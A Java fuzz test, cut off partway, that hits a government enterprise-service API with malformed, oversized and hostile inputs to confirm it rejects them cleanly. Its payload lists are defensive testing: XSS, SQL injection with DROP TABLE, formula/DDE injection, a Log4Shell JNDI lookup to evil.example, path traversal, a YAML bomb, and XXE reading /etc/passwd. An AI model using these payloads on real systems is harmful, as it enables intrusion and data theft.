package cn.qifu.system;

import static org.assertj.core.api.Assertions.assertThat;

import cn.qifu.problem.CreditCode;
import cn.qifu.problem.Problem;
import cn.qifu.problem.ProblemService;
import cn.qifu.problem.ProblemSubmission;
import cn.qifu.scenario.Application;
import cn.qifu.scenario.ApplicationRequest;
import cn.qifu.scenario.ApplicationStatus;
import cn.qifu.scenario.Scenario;
import cn.qifu.scenario.ScenarioCatalog;
import cn.qifu.scenario.ScenarioService;
import cn.qifu.testsupport.OnH2;
import cn.qifu.testsupport.RawHttp;
import cn.qifu.testsupport.Staff;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.PropertyDefaults;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.task.Task;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.TestContextManager;

/**
 * Fuzzing every endpoint of /api that takes input, with jqwik, against the running application on H2 (real HTTP on
 * loopback): generated bodies with missing, null, wrong-typed, over-long, blank, control-character, HTML/script,
 * formula-looking and odd-Unicode fields, malformed JSON, invalid UTF-8, wrong or broken content types, unacceptable
 * Accept headers and bodies of several MB. The property, for every input:
 * <ul>
 *   <li>never a 5xx; a 2xx only for input that was valid (what was stored is checked), else a 4xx;</li>
 *   <li>every 4xx is the {@link ApiError} JSON with a Chinese message, and 400/413/415 name the field and the reason;</li>
 *   <li>after a 4xx nothing new is stored: qf_problem, qf_application, their timelines, the engine's process instances
 *       and the holiday years count the same as before.</li>
 * </ul>
 * It uses the same application as the Jupiter classes {@code @OnH2} (Spring's test context cache; jqwik runs after
 * Jupiter, see pom.xml) and prints how many inputs each endpoint got, also to {@code <build dir>/api-fuzz-counts.txt}.
 */
@OnH2
// no shrinking: every try talks to the one running application, and a shrink would replay requests against changed
// state (and bounded shrinking leaves its thread running past its time); the failing request is printed whole instead
@PropertyDefaults(shrinking = ShrinkingMode.OFF)
class ApiFuzzTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern HAN = Pattern.compile(".*\\p{IsHan}.*", Pattern.DOTALL);
    private static final Object ABSENT = new Object() {
        @Override
        public String toString() {
            return "<absent>";
        }
    };
    private static final Object NULL = new Object() {
        @Override
        public String toString() {
            return "null";
        }
    };
    private static final String CHARSET = "0123456789ABCDEFGHJKLMNPQRTUWXY";
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
            "javascript:alert(1)", "=HYPERLINK(\"http://evil.example/x\",\"点我\")", "=1+2", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1", "' OR '1'='1' --", "'; DROP TABLE qf_problem; --", "../../etc/passwd",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n", "\\u0000", "[点我](javascript:alert(1))");
    private static final List<String> ODD_UNICODE = List.of("😀企业😀", "\u202e倒序文本", "零\u200b宽", "\ufeffBOM",
            "e\u0301\u0301\u0301", "𠀀𠀁𠀂", "１３８００００００００", "\u3000全角空格\u3000", "Ω≈ç√∫", "ｶﾀｶﾅ");

    static ApplicationContext app;
    static RawHttp http;
    static JdbcTemplate jdbc;
    static ProcessEngine engine;
    static ProblemService problems;
    static ScenarioService scenarios;
    static List<Scenario> catalog;
    static long waitingProblem;
    static long awaitingRating;
    static long missingMaterials;
    static final Map<String, AtomicInteger> tried = new TreeMap<>();
    static final Map<String, Map<Integer, AtomicInteger>> statuses = new TreeMap<>();
    static long started;

    /** One request as the fuzz sends it, and what the checks need to know about it. */
    record Attempt(String endpoint, String method, String path, String user, Map<String, String> headers, byte[] body,
                   boolean chunked, Map<String, Object> fields, String describe) {
        @Override
        public String toString() {
            return method + " " + path + " as " + user + " " + headers + " chunked=" + chunked + " body("
                    + (body == null ? 0 : body.length) + " bytes)=" + describe;
        }
    }

    record Counts(long problems, long applications, long problemEvents, long applicationEvents, long instances,
                  long holidayYears) {
    }

    static TestContextManager spring;
    static ApiFuzzTest instance;

    @BeforeContainer
    static void start() throws Exception {
        // the application of every @OnH2 class: the same cached context, started here if no Jupiter class did. jqwik
        // knows nothing of Spring: the test context's callbacks are made here, the whole fuzz as one test method
        // (the process test coverage counts what it runs)
        spring = new TestContextManager(ApiFuzzTest.class);
        instance = new ApiFuzzTest();
        spring.beforeTestClass();
        spring.prepareTestInstance(instance);
        spring.beforeTestMethod(instance, ApiFuzzTest.class.getDeclaredMethod("start"));
        app = spring.getTestContext().getApplicationContext();
        http = new RawHttp(Integer.parseInt(app.getEnvironment().getRequiredProperty("local.server.port")));
        jdbc = app.getBean(JdbcTemplate.class);
        engine = app.getBean(ProcessEngine.class);
        problems = app.getBean(ProblemService.class);
        scenarios = app.getBean(ScenarioService.class);
        catalog = app.getBean(ScenarioCatalog.class).all();
        waitingProblem = waitingProblem();
        awaitingRating = awaitingRating();
        missingMaterials = missingMaterials();
        started = System.nanoTime();
    }

    @AfterContainer
    static void report() throws Exception {
        if (spring != null) {
            spring.afterTestMethod(instance, ApiFuzzTest.class.getDeclaredMethod("start"), null);
            spring.afterTestClass();
        }
        StringBuilder text = new StringBuilder("API fuzz (jqwik): inputs tried per endpoint, and the statuses answered\n");
        int total = 0;
        for (Map.Entry<String, AtomicInteger> e : tried.entrySet()) {
            text.append(String.format("  %-42s %6d   %s%n", e.getKey(), e.getValue().get(),
                    statuses.getOrDefault(e.getKey(), Map.of(400, new AtomicInteger(e.getValue().get())))));
            // (the paths Tomcat refused are counted under their endpoint as well)
            total += e.getKey().startsWith("(") ? 0 : e.getValue().get();
        }
        text.append(String.format("  %-42s %6d   in %d s%n", "total", total, (System.nanoTime() - started) / 1_000_000_000L));
        System.out.print(text);
        // target/ (or -Dqifu.build.directory): the test classes' directory's parent
        Path buildDir = Path.of(Path.of(ApiFuzzTest.class.getProtectionDomain().getCodeSource().getLocation()
                .getPath()).getParent().toString());
        Files.writeString(buildDir.resolve("api-fuzz-counts.txt"), text, StandardCharsets.UTF_8);
    }

    // ---- the properties, one per endpoint -------------------------------------------------------------------------

    @Property(tries = 800)
    void submitProblem(@ForAll("problemSubmissions") Attempt attempt) {
        check(attempt, Set.of(201, 400, 406, 413, 415));
    }

    /**
     * Found by the fuzz: a UTF-8 body declared as ISO-8859-1 was stored as other characters (Spring Boot's encoding
     * filter had already forced the request to UTF-8, the JSON reader went by the header). Refused, nothing stored.
     */
    @net.jqwik.api.Example
    void aBodyDeclaredInAnotherCharsetIsRefused() {
        String json = "{\"creditCode\":\"91330521MA2B3C4D5Q\",\"enterpriseName\":\"德清企业\",\"contactName\":\"张三\","
                + "\"contactPhone\":\"13800000000\",\"channel\":\"ONLINE\",\"title\":\"用电\",\"description\":\"用电增容\"}";
        Attempt attempt = new Attempt("POST /api/problems", "POST", "/api/problems", "frontdesk1",
                Map.of("Content-Type", "application/json; charset=ISO-8859-1", "Accept", "application/json"),
                json.getBytes(StandardCharsets.UTF_8), false, Map.of(), "Chinese text declared as ISO-8859-1");
        RawHttp.Response response = check(attempt, Set.of(415));
        assertThat(response.json().get("code").asText()).isEqualTo("UNSUPPORTED_CHARSET");
        assertThat(response.json().at("/errors/0/field").asText()).isEqualTo("Content-Type");
    }

    /** Found by the fuzz: a form body with a broken %-escape on PUT was parsed by Spring's form filter: 500. */
    @net.jqwik.api.Example
    void aBrokenFormBodyIsNoServerError() {
        Attempt attempt = new Attempt("PUT /api/calendar/years", "PUT", "/api/calendar/years", "demo",
                Map.of("Content-Type", "application/x-www-form-urlencoded", "Accept", "application/json"),
                new byte[] {(byte) 0xe4, 0, 12, (byte) 0xb5, 7, (byte) 0x8f, (byte) 0xb3, '%'}, false, Map.of(),
                "binary with a broken %-escape");
        RawHttp.Response response = check(attempt, Set.of(400, 415));
        assertThat(response.json().get("code").asText()).isNotBlank();
    }

    /** Valid submissions whose text is hostile: stored exactly as typed, answered 201. */
    @Property(tries = 100)
    void hostileButValidTextIsStoredAsTyped(@ForAll("validHostileSubmissions") Attempt attempt) {
        RawHttp.Response response = check(attempt, Set.of(201));
        Problem stored = problems.get(response.json().get("id").asLong());
        assertThat(stored.title()).isEqualTo(((String) attempt.fields().get("title")).strip());
        assertThat(stored.description()).isEqualTo(((String) attempt.fields().get("description")).strip());
        assertThat(stored.enterpriseName()).isEqualTo(((String) attempt.fields().get("enterpriseName")).strip());
    }

    @Property(tries = 200)
    void supplement(@ForAll("supplements") Attempt attempt) {
        RawHttp.Response response = check(attempt, Set.of(200, 400, 404, 406, 409, 413, 415));
        if (response.status() == 200) {
            waitAgain(waitingProblem);
        }
    }

    @Property(tries = 250)
    void evaluateProblem(@ForAll("problemEvaluations") Attempt attempt) {
        RawHttp.Response response = check(attempt, Set.of(200, 400, 404, 406, 409, 413, 415));
        if (response.status() == 200) {
            awaitingRating = awaitingRating();
        }
    }

    @Property(tries = 500)
    void applyForAScenario(@ForAll("applications") Attempt attempt) {
        check(attempt, Set.of(201, 400, 404, 406, 413, 415));
    }

    @Property(tries = 250)
    void supplyMaterials(@ForAll("materials") Attempt attempt) {
        RawHttp.Response response = check(attempt, Set.of(200, 400, 404, 406, 409, 413, 415));
        if (response.status() == 200) {
            askForMaterials(missingMaterials);
        }
    }

    @Property(tries = 150)
    void evaluateApplication(@ForAll("applicationEvaluations") Attempt attempt) {
        check(attempt, Set.of(400, 404, 406, 409, 413, 415));
    }

    @Property(tries = 200)
    void loadHolidayYears(@ForAll("holidayDocuments") Attempt attempt) {
        check(attempt, Set.of(200, 400, 406, 413, 415));
    }

    @Property(tries = 300)
    void queryParameters(@ForAll("queries") Attempt attempt) {
        check(attempt, Set.of(200, 400, 404, 406));
    }

    // ---- the checks ------------------------------------------------------------------------------------------------

    static RawHttp.Response check(Attempt attempt, Set<Integer> allowed) {
        Counts before = counts();
        RawHttp.Response response = http.send(attempt.method(), attempt.path(), attempt.user(), "demo", attempt.headers(),
                attempt.body(), attempt.chunked());
        Counts after = counts();
        tried.computeIfAbsent(attempt.endpoint(), e -> new AtomicInteger()).incrementAndGet();
        statuses.computeIfAbsent(attempt.endpoint(), e -> new TreeMap<>())
                .computeIfAbsent(response.status(), s -> new AtomicInteger()).incrementAndGet();
        String what = visible(attempt.toString()) + "\n→ " + response.status() + " " + abbreviate(response.text());

        assertThat(response.status()).as("never 5xx: " + what).isLessThan(500);
        if (refusedByTheWebServer(attempt, response)) {
            assertThat(after).as("nothing stored after " + what).isEqualTo(before);
            return response;
        }
        assertThat(allowed).as("status for " + what).contains(response.status());
        if (response.status() >= 400) {
            JsonNode error = response.json();
            assertThat(error).as("an ApiError: " + what).isNotNull();
            assertThat(error.path("code").asText()).as("code: " + what).isNotBlank();
            assertThat(error.path("message").asText()).as("Chinese message: " + what).matches(HAN);
            if (Set.of(400, 413, 415).contains(response.status())) {
                assertThat(error.path("errors")).as("the fields at fault: " + what).isNotEmpty();
                error.path("errors").forEach(e -> {
                    assertThat(e.path("field").asText()).as("field: " + what).isNotBlank();
                    assertThat(e.path("code").asText()).as("reason code: " + what).isNotBlank();
                    assertThat(e.path("message").asText()).as("reason: " + what).matches(HAN);
                });
            }
            assertThat(after).as("nothing stored after " + what).isEqualTo(before);
        } else if ("POST".equals(attempt.method()) && response.status() == 201) {
            boolean replayed = "true".equals(response.header("Idempotency-Replayed"));
            long created = attempt.endpoint().startsWith("POST /api/problems")
                    ? after.problems() - before.problems() : after.applications() - before.applications();
            assertThat(created).as("one record, or a replay: " + what).isEqualTo(replayed ? 0 : 1);
            if (!replayed) {
                assertThat(after.instances()).as("its process started: " + what).isGreaterThan(before.instances());
                assertStoredIsValid(attempt, response);
            }
        }
        return response;
    }

    /**
     * Tomcat itself refuses a path with an encoded '/', '\' or NUL (400, its own HTML page) before any of the
     * application runs: a 4xx, but not ours to shape.
     */
    static boolean refusedByTheWebServer(Attempt attempt, RawHttp.Response response) {
        String path = attempt.path().toUpperCase(java.util.Locale.ROOT);
        boolean refused = response.status() == 400 && String.valueOf(response.header("Content-Type")).startsWith("text/html")
                && (path.contains("%2F") || path.contains("%5C") || path.contains("%00"));
        if (refused) {
            tried.computeIfAbsent("(path refused by Tomcat itself)", e -> new AtomicInteger()).incrementAndGet();
        }
        return refused;
    }

    /** What a 201 stored is what a valid submission holds: the system took nothing it should have refused. */
    static void assertStoredIsValid(Attempt attempt, RawHttp.Response response) {
        String what = visible(attempt.toString());
        JsonNode created = response.json();
        String creditCode;
        String enterpriseName;
        if (attempt.endpoint().startsWith("POST /api/problems")) {
            Problem p = problems.get(created.get("id").asLong());
            creditCode = p.creditCode();
            enterpriseName = p.enterpriseName();
            assertThat(p.title()).as(what).isNotBlank().hasSizeLessThanOrEqualTo(200);
            assertThat(p.description()).as(what).isNotBlank().hasSizeLessThanOrEqualTo(4000);
            assertThat(p.contactPhone()).as(what).matches("1[3-9]\\d{9}|0\\d{2,3}-?\\d{7,8}(-\\d{1,6})?");
            assertThat(p.title().chars()).as(what).noneMatch(c -> c < 0x20 && c != '\n' && c != '\r' && c != '\t');
        } else {
            Application a = scenarios.get(created.get("id").asLong());
            creditCode = a.creditCode();
            enterpriseName = a.enterpriseName();
        }
        assertThat(CreditCode.isValid(creditCode)).as(creditCode + " " + what).isTrue();
        assertThat(enterpriseName).as(what).isNotBlank().hasSizeLessThanOrEqualTo(200);
        if (attempt.fields().get("enterpriseName") instanceof String sent) {
            assertThat(visible(enterpriseName)).as(what).isEqualTo(visible(sent.strip()));
        }
    }

    /** Control characters as \\uXXXX, so that a failure message shows what was sent. */
    static String visible(String text) {
        StringBuilder out = new StringBuilder();
        text.chars().forEach(c -> out.append(c < 0x20 || c == 0x7F ? String.format("\\u%04x", c) : String.valueOf((char) c)));
        return out.toString();
    }

    static Counts counts() {
        return jdbc.queryForObject("SELECT (SELECT COUNT(*) FROM qf_problem), (SELECT COUNT(*) FROM qf_application), "
                + "(SELECT COUNT(*) FROM qf_problem_event), (SELECT COUNT(*) FROM qf_application_event), "
                + "(SELECT COUNT(*) FROM ACT_HI_PROCINST), (SELECT COUNT(*) FROM qf_holiday_year)",
                (rs, n) -> new Counts(rs.getLong(1), rs.getLong(2), rs.getLong(3), rs.getLong(4), rs.getLong(5), rs.getLong(6)));
    }

    static String abbreviate(String text) {
        return text.length() > 600 ? text.substring(0, 600) + "…" : text;
    }

    // ---- generators: the endpoints ------------------------------------------------------------------------------------

    @Provide
    Arbitrary<Attempt> problemSubmissions() {
        Arbitrary<Map<String, Object>> fields = fields(
                Tuple.of("creditCode", creditCode()), Tuple.of("enterpriseName", text(200)),
                Tuple.of("contactName", text(50)), Tuple.of("contactPhone", phone()), Tuple.of("channel", channel()),
                Tuple.of("title", text(200)), Tuple.of("description", text(4000)), Tuple.of("category", text(50)));
        return jsonAttempt("POST /api/problems", Arbitraries.just("/api/problems"), fields, "frontdesk1", true);
    }

    @Provide
    Arbitrary<Attempt> validHostileSubmissions() {
        return Combinators.combine(validCreditCode(), hostileText(200), hostileText(200), hostileText(4000), validPhone())
                .as((code, name, title, description, phone) -> {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("creditCode", code);
            body.put("enterpriseName", name);
            body.put("contactName", "王五");
            body.put("contactPhone", phone);
            body.put("channel", "ONLINE");
            body.put("title", title);
            body.put("description", description);
            body.put("category", "证照");
            return new Attempt("POST /api/problems (valid, hostile text)", "POST", "/api/problems", "frontdesk1",
                    Map.of("Content-Type", "application/json"), toJson(body), false, body, body.toString());
        });
    }

    /** Valid text that is all markup: HTML, script, formulas, odd Unicode; now and then the longest allowed, all punctuation. */
    static Arbitrary<String> hostileText(int max) {
        Arbitrary<String> hostile = Arbitraries.of(HOSTILE).map(h -> h + " ");
        Arbitrary<String> odd = Arbitraries.of(ODD_UNICODE);
        return Arbitraries.frequencyOf(
                Tuple.of(9, Combinators.combine(hostile, odd, hostile).as((a, b, c) -> a + b + c)),
                Tuple.of(1, Arbitraries.strings().withChars("<>&\"'[]()*_#`\\|!=+-@").ofLength(max)
                        .map(t -> "x" + t.substring(1))));
    }

    @Provide
    Arbitrary<Attempt> supplements() {
        return jsonAttempt("POST /api/problems/{id}/supplement", problemPath("/supplement"),
                fields(Tuple.of("content", text(4000))), "frontdesk1", false);
    }

    @Provide
    Arbitrary<Attempt> problemEvaluations() {
        return jsonAttempt("POST /api/problems/{id}/evaluation", problemPath("/evaluation"),
                fields(Tuple.of("rating", rating()), Tuple.of("comment", text(1000))), "frontdesk1", false);
    }

    @Provide
    Arbitrary<Attempt> applications() {
        Arbitrary<Scenario> scenario = Arbitraries.of(catalog);
        return scenario.flatMap(s -> {
            List<String> valueAdded = s.valueAddedItems().stream().map(Scenario.ValueAddedItem::code).toList();
            List<String> basic = s.basicItems().stream().map(Scenario.BasicItem::code).toList();
            Arbitrary<Map<String, Object>> fields = fields(
                    Tuple.of("creditCode", creditCode()), Tuple.of("enterpriseName", text(200)),
                    Tuple.of("contactName", text(50)), Tuple.of("contactPhone", phone()), Tuple.of("channel", channel()),
                    Tuple.of("valueAddedItems", codes(valueAdded)), Tuple.of("basicItems", codes(basic)),
                    Tuple.of("providedMaterials", materialList(s.guide().materials())));
            Arbitrary<String> code = Arbitraries.frequencyOf(
                    Tuple.of(12, Arbitraries.just(s.code())),
                    Tuple.of(1, Arbitraries.strings().ofMinLength(1).ofMaxLength(80).map(ApiFuzzTest::encode)),
                    Tuple.of(1, Arbitraries.of("nope", "..%2F..", "companyOpening%00", "COMPANYOPENING", "%E4%BC%81")));
            return jsonAttempt("POST /api/scenarios/{code}/applications",
                    code.map(c -> "/api/scenarios/" + c + "/applications"), fields, "frontdesk1", true);
        });
    }

    @Provide
    Arbitrary<Attempt> materials() {
        List<String> guide = scenarios.scenario("companyOpening").guide().materials();
        return jsonAttempt("POST /api/applications/{id}/materials", applicationPath("/materials"),
                fields(Tuple.of("materials", materialList(guide))), "frontdesk1", false);
    }

    @Provide
    Arbitrary<Attempt> applicationEvaluations() {
        return jsonAttempt("POST /api/applications/{id}/evaluation", applicationPath("/evaluation"),
                fields(Tuple.of("rating", rating()), Tuple.of("comment", text(1000))), "frontdesk1", false);
    }

    /** Holiday documents as an administrator uploads them: mostly YAML, some valid (a far year), most broken. */
    @Provide
    Arbitrary<Attempt> holidayDocuments() {
        String valid = """
                year: 2099
                source: "国务院办公厅关于2099年部分节假日安排的通知（测试），2098-11-01 发布"
                holidays:
                  - { name: 元旦, from: 2099-01-01, to: 2099-01-03 }
                  - { name: 国庆节, from: 2099-10-01, to: 2099-10-07 }
                adjustedWorkingDays: [2099-10-10]
                """;
        Arbitrary<byte[]> document = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.just(valid.getBytes(StandardCharsets.UTF_8))),
                Tuple.of(8, Combinators.combine(Arbitraries.integers().between(0, valid.length()),
                        Arbitraries.integers().between(0, valid.length()), Arbitraries.strings().ofMaxLength(20))
                        .as((from, to, insert) -> (valid.substring(0, Math.min(from, to)) + insert
                                + valid.substring(Math.min(from, to) + (Math.max(from, to) - Math.min(from, to)) / 4))
                                .getBytes(StandardCharsets.UTF_8))),
                Tuple.of(3, Arbitraries.of(
                        "a: &a [x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
                                + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d]\n",
                        "year: !!java.net.URL [\"http://evil.example\"]\n", "years: 5\n", "year: 2099\n",
                        "year: [2099]\n", "years:\n  - year: 99999999999999999999\n", "", "---\n...\n", "{]",
                        "year: 2099\nsource: x\nholidays:\n  - { name: 元旦, from: 2099-13-45, to: 2099-01-03 }\n",
                        "year: 2099\nsource: x\nholidays:\n  - { name: 元旦, from: 2099-01-03, to: 2099-01-01 }\n",
                        "year: 2099\nsource: x\nholidays: []\nadjustedWorkingDays: [2098-10-10]\n",
                        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")
                        .map(t -> t.getBytes(StandardCharsets.UTF_8))),
                Tuple.of(2, Arbitraries.strings().ofMaxLength(300).map(t -> t.getBytes(StandardCharsets.UTF_8))),
                Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(300)),
                Tuple.of(1, Arbitraries.integers().between(1_100_000, 3_000_000).map(n -> hugeYaml(n))));
        Arbitrary<String> contentType = Arbitraries.frequencyOf(
                Tuple.of(10, Arbitraries.just("application/yaml")), Tuple.of(1, Arbitraries.just("text/yaml")),
                Tuple.of(1, Arbitraries.just("text/plain; charset=UTF-8")), Tuple.of(1, Arbitraries.just("application/json")),
                Tuple.of(1, Arbitraries.just("application/x-www-form-urlencoded")), Tuple.of(1, Arbitraries.just("a/b/c")));
        return Combinators.combine(document, contentType, accept(), Arbitraries.of(false, false, false, true))
                .as((body, type, accept, chunked) -> {
                    Map<String, String> headers = new LinkedHashMap<>();
                    headers.put("Content-Type", type);
                    headers.put("Accept", accept);
                    return new Attempt("PUT /api/calendar/years", "PUT", "/api/calendar/years", "demo", headers, body,
                            chunked, Map.of(), preview(body));
                });
    }

    /** The GET endpoints' parameters and path variables, as the dashboard and the channels send them (or worse). */
    @Provide
    Arbitrary<Attempt> queries() {
        Arbitrary<String> junk = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.strings().ofMaxLength(40)),
                Tuple.of(1, Arbitraries.of(HOSTILE)), Tuple.of(1, Arbitraries.of(ODD_UNICODE)),
                Tuple.of(2, Arbitraries.of("2025-06", "2025-13", "0000-00", "9999-12", "2025-6", "-1", "99999999999999999999",
                        "2025-06-03T10:00:00+08:00", "2025-06-03", "1", "0", "250", "251", "DAILY", "HOURLY", "", " ")));
        Arbitrary<String> path = Arbitraries.frequencyOf(
                Tuple.of(2, junk.map(v -> "/api/problems?creditCode=" + encode(v))),
                Tuple.of(1, validCreditCode().map(v -> "/api/problems?creditCode=" + encode(v))),
                Tuple.of(2, Combinators.combine(junk, junk).as((f, d) -> "/api/calendar/deadline?from=" + encode(f)
                        + "&workingDays=" + encode(d))),
                Tuple.of(2, junk.map(v -> "/api/stats/summary?month=" + encode(v))),
                Tuple.of(2, Combinators.combine(Arbitraries.of("department", "board", "level", "channel", "category", "nope"), junk)
                        .as((d, v) -> "/api/stats/by/" + d + "?month=" + encode(v))),
                Tuple.of(1, junk.map(v -> "/api/stats/trend?months=" + encode(v))),
                Tuple.of(1, junk.map(v -> "/api/reports?kind=" + encode(v))),
                Tuple.of(1, junk.map(v -> "/api/problems/" + encode(v))),
                Tuple.of(1, junk.map(v -> "/api/applications/" + encode(v))),
                Tuple.of(1, junk.map(v -> "/api/scenarios/" + encode(v))),
                Tuple.of(1, junk.map(v -> "/api/reports/" + encode(v))));
        return Combinators.combine(path, accept()).as((p, accept) -> {
            Map<String, String> headers = new LinkedHashMap<>();
            headers.put("Accept", accept);
            return new Attempt("GET (query parameters, path variables)", "GET", p, "supervisor1", headers, null, false,
                    Map.of(), p);
        });
    }

    // ---- generators: bodies -------------------------------------------------------------------------------------------

    /**
     * A JSON request from its fields, then, now and then, spoilt: truncated, invalid UTF-8, not an object, nested too
     * deep, several MB, sent chunked; with a content type and an Accept header that are mostly right.
     */
    static Arbitrary<Attempt> jsonAttempt(String endpoint, Arbitrary<String> path, Arbitrary<Map<String, Object>> fields,
                                          String user, boolean idempotencyKey) {
        Arbitrary<String> spoil = Arbitraries.frequencyOf(
                Tuple.of(70, Arbitraries.just("none")), Tuple.of(4, Arbitraries.just("truncate")),
                Tuple.of(4, Arbitraries.just("invalid-utf8")), Tuple.of(3, Arbitraries.just("not-an-object")),
                Tuple.of(1, Arbitraries.just("deep")), Tuple.of(2, Arbitraries.just("huge")),
                Tuple.of(2, Arbitraries.just("garbage-after")), Tuple.of(2, Arbitraries.just("empty")),
                Tuple.of(2, Arbitraries.just("latin1")));
        Arbitrary<String> contentType = Arbitraries.frequencyOf(
                Tuple.of(40, Arbitraries.just("application/json")),
                Tuple.of(4, Arbitraries.just("application/json; charset=UTF-8")),
                Tuple.of(1, Arbitraries.just("application/json; charset=ISO-8859-1")),
                Tuple.of(1, Arbitraries.just("application/json; charset=no-such-charset")),
                Tuple.of(1, Arbitraries.just("text/plain")), Tuple.of(1, Arbitraries.just("application/xml")),
                Tuple.of(1, Arbitraries.just("application/x-www-form-urlencoded")),
                Tuple.of(1, Arbitraries.just("multipart/form-data; boundary=x")),
                Tuple.of(1, Arbitraries.just("application/json;;;=")), Tuple.of(1, Arbitraries.just("a/b/c")),
                Tuple.of(1, Arbitraries.just("")));
        Arbitrary<String> key = idempotencyKey ? Arbitraries.frequencyOf(
                Tuple.of(12, Arbitraries.just("")),
                Tuple.of(3, Arbitraries.strings().withCharRange('!', '~').ofMinLength(1).ofMaxLength(100)),
                Tuple.of(1, Arbitraries.strings().withCharRange('!', '~').ofMinLength(101).ofMaxLength(200)),
                Tuple.of(1, Arbitraries.of("with space", "tab\tkey", "a,b;c=d"))) : Arbitraries.just("");
        return Combinators.combine(path, fields, spoil, contentType, accept(), key, Arbitraries.randoms())
                .as((p, f, s, type, accept, k, random) -> {
                    byte[] body = spoilt(toJson(withoutAbsent(f)), s, random);
                    Map<String, String> headers = new LinkedHashMap<>();
                    headers.put("Content-Type", type.isEmpty() ? null : type);
                    headers.put("Accept", accept);
                    if (!k.isEmpty()) {
                        headers.put("Idempotency-Key", k);
                    }
                    boolean chunked = "huge".equals(s) && random.nextBoolean();
                    // the fields are what the server must store only when the body went as generated
                    return new Attempt(endpoint, "POST", p, user, headers, body, chunked, "none".equals(s) ? f : Map.of(),
                            s + " " + (body.length > 2000 ? "(" + body.length + " bytes)" : preview(body)));
                });
    }

    static byte[] spoilt(byte[] json, String how, Random random) {
        return switch (how) {
            case "truncate" -> Arrays.copyOf(json, random.nextInt(Math.max(1, json.length)));
            case "invalid-utf8" -> {
                byte[][] bad = {{(byte) 0xFF}, {(byte) 0xC3, 0x28}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                    {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
                byte[] insert = bad[random.nextInt(bad.length)];
                // inside a string value where there is one, else anywhere
                int quote = indexOf(json, (byte) '"', 1 + random.nextInt(Math.max(1, json.length / 2)));
                int at = quote > 0 ? quote : random.nextInt(json.length + 1);
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                out.write(json, 0, at);
                out.writeBytes(insert);
                out.write(json, at, json.length - at);
                yield out.toByteArray();
            }
            case "not-an-object" -> List.of("[]", "[1,2,3]", "\"text\"", "42", "null", "true", "[{}]", "{}{}")
                    .get(random.nextInt(8)).getBytes(StandardCharsets.UTF_8);
            case "deep" -> ("{\"title\":" + "[".repeat(5000) + "]".repeat(5000) + "}").getBytes(StandardCharsets.UTF_8);
            case "huge" -> huge(1_100_000 + random.nextInt(5_000_000));
            case "garbage-after" -> concat(json, " garbage }}}".getBytes(StandardCharsets.UTF_8));
            case "empty" -> new byte[0];
            case "latin1" -> new String(json, StandardCharsets.UTF_8).getBytes(StandardCharsets.ISO_8859_1);
            default -> json;
        };
    }

    /** A JSON object of several MB: one long field. */
    static byte[] huge(int size) {
        byte[] body = new byte[size];
        Arrays.fill(body, (byte) 'x');
        byte[] start = "{\"title\":\"".getBytes(StandardCharsets.UTF_8);
        System.arraycopy(start, 0, body, 0, start.length);
        body[size - 2] = '"';
        body[size - 1] = '}';
        return body;
    }

    static byte[] hugeYaml(int size) {
        StringBuilder yaml = new StringBuilder("year: 2099\nsource: \"");
        yaml.append("节".repeat(size / 3)).append("\"\n");
        return yaml.toString().getBytes(StandardCharsets.UTF_8);
    }

    @SafeVarargs
    static Arbitrary<Map<String, Object>> fields(Tuple.Tuple2<String, Arbitrary<Object>>... fields) {
        Arbitrary<Map<String, Object>> map = Arbitraries.just(new LinkedHashMap<>());
        for (Tuple.Tuple2<String, Arbitrary<Object>> field : fields) {
            map = Combinators.combine(map, field.get2()).as((m, v) -> {
                Map<String, Object> next = new LinkedHashMap<>(m);
                next.put(field.get1(), v);
                return next;
            });
        }
        return map;
    }

    static Map<String, Object> withoutAbsent(Map<String, Object> fields) {
        Map<String, Object> body = new LinkedHashMap<>();
        fields.forEach((k, v) -> {
            if (v != ABSENT) {
                body.put(k, v == NULL ? null : v);
            }
        });
        return body;
    }

    // ---- generators: values ------------------------------------------------------------------------------------------

    /** A text field of at most {@code max} characters: mostly fitting, else missing, wrong, too long or hostile. */
    static Arbitrary<Object> text(int max) {
        return Arbitraries.frequencyOf(
                Tuple.of(30, plainText(max)),
                Tuple.of(2, Arbitraries.strings().withChars("企业服务").ofLength(max).map(v -> (Object) v)),
                Tuple.of(3, Arbitraries.just(ABSENT)), Tuple.of(3, Arbitraries.just(NULL)),
